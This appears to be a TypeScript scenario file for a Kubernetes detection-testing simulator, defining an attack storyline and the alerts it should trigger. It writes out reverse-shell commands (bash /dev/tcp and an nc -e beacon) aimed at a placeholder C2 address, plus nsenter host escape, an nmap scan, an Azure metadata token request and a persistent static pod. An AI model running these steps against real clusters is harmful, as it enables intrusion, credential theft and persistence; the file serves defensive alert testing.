import { USER_AGENT } from '../cluster/constants';
import { nodepoolNode } from '../cluster/inventory';
import type { PodTemplate } from '../cluster/types';
import type { Random } from '../../src/shared/random';
import { externalIp, nameFrom, reverseShellPort, SYSTEM_LOOKALIKE_NAMES } from '../scenario/indicators';
import type { PodRef, StepAction, Storyline, StorylineDefinition } from '../scenario/storyline';

const OPERATOR: PodRef = { namespace: 'monitoring', workload: 'prometheus-operator' };
/**
 * Namespaces whose Pod Security enforcement refuses host namespaces (restricted or baseline). Not `monitoring`: the
 * brief names the token's own namespace, so that answer would be given away.
 */
const GUARDED_NAMESPACES = ['shop', 'dev'];
/** Namespaces with no Pod Security enforcement, where the same pod is admitted. */
const OPEN_NAMESPACES = ['default', 'ci', 'kubernetes-dashboard'];
const NETSHOOT_TAGS = ['v0.11', 'v0.12', 'v0.13'];

/** Files and connections a command touches. */
type ProcessEvidence = Partial<Pick<Extract<StepAction, { type: 'process' }>, 'files' | 'connections'>>;

function build(random: Random): Storyline {
  const attackerIp = externalIp(random, { ranges: ['203.0.113', '198.51.100'] });
  const c2Ip = externalIp(random, { ranges: ['203.0.113', '198.51.100'], avoid: [attackerIp] });
  const c2Port = reverseShellPort(random);
  const deniedNamespace = random.pick(GUARDED_NAMESPACES);
  const namespace = random.pick(OPEN_NAMESPACES);
  const podName = nameFrom(random, SYSTEM_LOOKALIKE_NAMES);
  const staticName = nameFrom(random, SYSTEM_LOOKALIKE_NAMES, [podName]);
  const node = nodepoolNode(random.int(0, 2));
  const mirrorPod = `${staticName}-${node.name}`;
  const image = { registry: 'docker.io', repository: 'nicolaka/netshoot', tag: random.pick(NETSHOOT_TAGS) };
  const callHome = `sleep 5; bash -i >& /dev/tcp/${c2Ip}/${c2Port} 0>&1`;
  const beacon = `while true; do nc ${c2Ip} ${c2Port} -e /bin/sh; sleep 60; done`;
  const pod: PodRef = { namespace, name: podName };

  const hostPodTemplate: PodTemplate = {
    labels: { app: podName },
    serviceAccount: 'default',
    hostPID: true,
    hostNetwork: true,
    containers: [
      {
        name: podName,
        image,
        command: ['/bin/sh', '-c', callHome],
        // Not privileged, so no "privileged container" alert; these two capabilities are all nsenter needs.
        securityContext: { capabilities: { add: ['SYS_ADMIN', 'SYS_PTRACE'] }, runAsUser: 0 },
        process: { exe: '/bin/bash', cmdline: `/bin/sh -c ${callHome}`, user: 'root' },
      },
    ],
  };
  const staticPodTemplate: PodTemplate = {
    labels: { component: staticName, tier: 'node' },
    serviceAccount: 'default',
    automountServiceAccountToken: false,
    hostNetwork: true,
    containers: [
      {
        name: staticName,
        image: { registry: 'docker.io', repository: 'library/busybox', tag: '1.36' },
        command: ['sh', '-c', beacon],
        process: { exe: '/bin/sh', cmdline: `sh -c ${beacon}`, user: 'root' },
      },
    ],
  };
  /** A command typed in the shell that called home, inside the pod or (after nsenter) on the node. */
  const typed = (
    cmdline: string,
    exe: string,
    onHost: boolean,
    evidence: ProcessEvidence = {},
  ): StepAction => ({
    type: 'process',
    pod,
    exe,
    cmdline,
    parentExe: '/bin/bash',
    user: 'root',
    ...(onHost ? { inHostNamespaces: true } : {}),
    ...evidence,
  });
  const manifest = `/etc/kubernetes/manifests/${staticName}.yaml`;
  const createdAt = random.int(30, 75);
  const reconAt = createdAt + random.int(60, 120);
  const nsenterAt = reconAt + random.int(60, 120);
  return {
    id: 'host-namespaces-nsenter',
    title: 'A monitoring token, the host namespaces and a static pod',
    summary:
      "A stolen Prometheus operator token starts a pod sharing its node's PID and network namespaces that calls home; the attacker joins the node with nsenter, scans the node network, takes a managed-identity token and plants a static pod that outlives everything.",
    indicators: {
      attackerIp,
      c2Ip,
      c2Port: String(c2Port),
      deniedNamespace,
      namespace,
      pod: podName,
      node: node.name,
      staticPod: mirrorPod,
      image: `${image.repository}:${image.tag}`,
    },
    attackHourUtc: 21,
    actors: {
      stolenToken: { kind: 'podToken', pod: OPERATOR, sourceIp: attackerIp, userAgent: USER_AGENT.kubectl },
      kubelet: { kind: 'node', node: node.name, sourceIp: node.ip, userAgent: USER_AGENT.kubelet },
    },
    steps: [
      {
        at: 0,
        description: `Tries to create ${deniedNamespace}/${podName} with hostPID and hostNetwork: Pod Security refuses it`,
        actions: [
          {
            type: 'createPod',
            actor: 'stolenToken',
            namespace: deniedNamespace,
            name: podName,
            node: node.name,
            fieldManager: 'kubectl-run',
            template: hostPodTemplate,
          },
        ],
      },
      {
        at: createdAt,
        description: `Creates ${namespace}/${podName} instead; its entrypoint calls ${c2Ip}:${c2Port} back`,
        actions: [
          {
            type: 'createPod',
            actor: 'stolenToken',
            namespace,
            name: podName,
            node: node.name,
            fieldManager: 'kubectl-run',
            template: hostPodTemplate,
          },
        ],
      },
      {
        at: reconAt,
        description: 'Looks around: whose processes and which listeners the host namespaces show',
        actions: [typed('id; hostname; uname -a; ps auxww; ss -tlnp', '/bin/bash', false)],
      },
      {
        at: nsenterAt,
        description: "Joins the node's namespaces through PID 1",
        actions: [
          typed('nsenter --target 1 --mount --uts --ipc --net --pid -- bash', '/usr/bin/nsenter', true),
        ],
      },
      {
        at: nsenterAt + random.int(30, 90),
        description: 'Scans the node network for kubelets, etcd and API servers',
        actions: [
          typed('nmap -sT -Pn -p 10250,10255,2379,6443 10.224.0.0/24', '/usr/bin/nmap', true, {
            connections: [{ ip: '10.224.0.5', port: 10250 }],
          }),
        ],
      },
      {
        at: nsenterAt + random.int(150, 240),
        description: "Asks the metadata service for the node's managed-identity token",
        actions: [
          typed(
            'curl -s -H Metadata:true "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"',
            '/usr/bin/curl',
            true,
            { connections: [{ ip: '169.254.169.254', port: 80 }] },
          ),
        ],
      },
      {
        at: nsenterAt + random.int(300, 420),
        description: `Writes a static pod manifest, ${manifest}, on the node`,
        actions: [
          typed(`cat > ${manifest}`, '/usr/bin/cat', true, {
            files: [{ path: manifest, operation: 'write' }],
          }),
        ],
      },
      {
        at: nsenterAt + random.int(440, 480),
        description: `The kubelet starts the static pod and publishes its mirror pod kube-system/${mirrorPod}`,
        actions: [
          {
            type: 'createPod',
            actor: 'kubelet',
            namespace: 'kube-system',
            name: mirrorPod,
            node: node.name,
            fieldManager: 'kubelet',
            template: staticPodTemplate,
          },
        ],
      },
    ],
    expectedAlerts: [
      { alertType: 'K8S_ServiceAccountRareOperation', step: 1 },
      { alertType: 'K8S.NODE_ReverseShell', step: 1, withinSeconds: 15 },
      { alertType: 'K8S.NODE_ReconnaissanceArtifactsBurst', step: 2 },
      { alertType: 'K8S.NODE_PrivilegedExecutionInContainer', step: 3 },
      { alertType: 'K8S.NODE_KnownLinuxAttackTool', step: 4 },
      { alertType: 'K8S.NODE_ImdsCall', step: 5 },
      { alertType: 'K8S.NODE_ReverseShell', step: 7, withinSeconds: 15 },
    ],
  };
}

/** B4 with B1's nsenter and a static pod: host namespaces without privileged mode are still the node. */
export const hostNamespacesNsenter: StorylineDefinition = {
  id: 'host-namespaces-nsenter',
  title: 'A monitoring token, the host namespaces and a static pod',
  summary:
    "A stolen monitoring token starts a non-privileged pod in the node's PID and network namespaces; nsenter, a network scan, a managed-identity token and a static pod follow.",
  build,
};
